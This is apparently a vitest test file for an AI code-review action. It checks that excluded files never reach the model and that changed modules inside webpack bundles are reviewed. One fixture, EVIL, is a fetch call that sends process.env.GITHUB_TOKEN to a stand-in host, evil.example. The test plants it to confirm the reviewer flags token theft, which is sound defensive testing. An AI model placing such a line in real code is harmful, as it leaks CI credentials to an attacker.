import { describe, expect, it } from 'vitest';
import { bundle, MODULES } from '../harness/bundle.ts';
import { answer, FINDING, setModel } from './stage-model.ts';
import { CART, expectFaithful, GUIDANCE, NUMBER, setStage } from './stage.ts';

const EVIL = 'fetch("https://evil.example/?" + process.env.GITHUB_TOKEN);';
const SPOILED = { ...MODULES, './src/a.js': `${EVIL}\n${MODULES['./src/a.js']}` };
/** The lines are long, so that nobody could read the bundle without its modules. */
const minified = (modules: Readonly<Record<string, string>>): string =>
  bundle(modules)
    .replaceAll(/\/\*.*?\*\/|\/\/ .*$/gm, '')
    .replaceAll('\n', ' ');
const STAGED = { ...GUIDANCE, '.gitattributes': 'dist/** linguist-generated=true\n' };

function inputsFor(model: { readonly url: string }): Readonly<Record<string, string>> {
  return { model: 'gpt-4o', 'base-url': model.url, 'api-key': 'secret-key' };
}

describe('the files that the model is shown', () => {
  it('do not include files that the base excludes, whatever the pull request says', async () => {
    const model = await setModel([answer()]);
    const { github, run } = await setStage({
      base: {
        ...GUIDANCE,
        'src/cart.js': CART,
        'secret/key.js': 'const key = 1;\n',
        '.copilotignore': 'secret/\n',
        '.github/content-exclusion.yml': '"*":\n  - "*.CFG"\n',
      },
      head: {
        'src/cart.js': `${CART}let ordinary = 1;\n`,
        'secret/key.js': 'const key = "HIDDEN-ONE";\n',
        'conf/app.cfg': 'HIDDEN-TWO\n',
        '.copilotignore': '\n',
        '.github/content-exclusion.yml': '[]\n',
      },
    });
    const result = await run({ inputs: inputsFor(model) });
    const sent = JSON.stringify(model.requests.map((request) => request.body));
    expect(sent).toContain('let ordinary = 1;');
    expect(sent).not.toContain('HIDDEN');
    const body = result.summary;
    expect(body).toContain('`secret/key.js`: excluded by `secret/` (.copilotignore:1)');
    expect(body).toContain('`conf/app.cfg`: excluded by `*.CFG` (.github/content-exclusion.yml:2)');
    expect(JSON.parse(result.outputs['not-reviewed'] ?? '')).toContainEqual({ kind: 'excluded', files: 2, lines: 3 });
    expectFaithful(github);
  });

  it('are none if the exclusion cannot be read', async () => {
    const model = await setModel([answer()]);
    const { github, run } = await setStage({
      base: { ...GUIDANCE, 'src/cart.js': CART, '.github/content-exclusion.yml': 'secret: yes\n' },
      head: { 'src/cart.js': `${CART}let ordinary = 1;\n` },
    });
    const result = await run({ inputs: inputsFor(model) });
    expect(result.exitCode).toBe(2);
    expect(result.stdout).toContain('.github/content-exclusion.yml:1:9');
    expect(model.requests).toEqual([]);
    expect(github.issueComments(NUMBER)).toEqual([]);
  });

  it('include every line of a file that only the pull request marks as generated', async () => {
    const model = await setModel([answer()]);
    const { run } = await setStage({
      head: {
        'src/cart.js': `// @generated\n${CART}let ordinary = 1;\n`,
        '.gitattributes': '* -diff linguist-generated\n',
      },
    });
    await run({ inputs: inputsFor(model) });
    expect(JSON.stringify(model.requests[0]?.body)).toContain('let ordinary = 1;');
  });

  it.each([
    ['as written by webpack', bundle, 6],
    ['minified to one line', minified, 1],
  ])('include the changed module of a bundle %s, if `bundles` is on', async (_, draw, line) => {
    const comment = { ...FINDING, path: 'dist/index.js', line, quote: EVIL, title: 'A token leaves', suggestion: 'x' };
    const model = await setModel([answer(comment)]);
    const { github, run } = await setStage({
      base: { ...STAGED, 'dist/index.js': draw(MODULES) },
      head: { 'dist/index.js': draw(SPOILED) },
    });
    const result = await run({ inputs: { ...inputsFor(model), bundles: 'true' } });
    const sent = JSON.stringify(model.requests[0]?.body);
    expect(sent).toContain('webpack bundle: 1 changed of');
    expect(sent).toContain('modified module ./src/a.js');
    expect(sent).toContain('evil.example');
    expect(sent).not.toContain('./src/b.js');
    const [posted] = github.reviewComments(NUMBER);
    expect(posted).toMatchObject({ path: 'dist/index.js', anchor: { line, side: 'RIGHT' } });
    expect(posted?.body).toContain('A token leaves');
    // The model read the formatted module, not the text of the file, so no suggestion is posted.
    expect(posted?.body).not.toContain('```suggestion');
    expect(result.outputs).toMatchObject({ coverage: '100' });
    expectFaithful(github);
  });

  it('do not include a bundle that is marked as generated, if `bundles` is off', async () => {
    const model = await setModel([answer()]);
    const { run } = await setStage({
      base: { ...STAGED, 'dist/index.js': bundle(MODULES), 'src/cart.js': CART },
      head: { 'dist/index.js': bundle(SPOILED), 'src/cart.js': `${CART}let ordinary = 1;\n` },
    });
    const result = await run({ inputs: inputsFor(model) });
    expect(JSON.stringify(model.requests[0]?.body)).not.toContain('evil.example');
    expect(result.summary).toContain('`dist/index.js`: marked `linguist-generated` (.gitattributes:1)');
  });
});
